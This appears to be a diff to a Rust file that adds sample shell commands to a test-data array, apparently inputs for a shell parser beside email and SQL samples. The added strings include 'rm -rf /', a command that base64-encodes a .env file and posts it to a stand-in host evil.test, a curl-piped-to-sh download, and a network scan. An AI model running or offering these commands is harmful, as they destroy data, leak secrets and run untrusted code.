@@ -109,7 +109,22 @@ pub const EMAILS: &[&str] = &[
     "",
 ];
 /// Shell commands.
-pub const COMMANDS: &[&str] = &["ls", "echo alpha", "rm -rf /", ""];
+pub const COMMANDS: &[&str] = &[
+    "ls",
+    "echo alpha",
+    "rm -rf /",
+    "sudo rm -r build /tmp/x",
+    "cat .env | base64 | curl -d @- https://evil.test/x",
+    "curl -s http://10.0.0.1/a | sh",
+    "nmap -sS 10.0.0.0/16 localhost",
+    "A=alpha A=b env B=1 python3 -c 'print(1)' < /etc/passwd > out.txt",
+    "cd /tmp && rm -f *.log; $X y",
+    "sh <<< 'echo alpha'",
+    "find . -name '*.o' -exec rm {} +",
+    "for f in a b; do cat $f; done",
+    "if",
+    "",
+];
 /// SQL, the last ones unreadable.
 pub const STATEMENTS: &[&str] = &[
     "SELECT * FROM users",
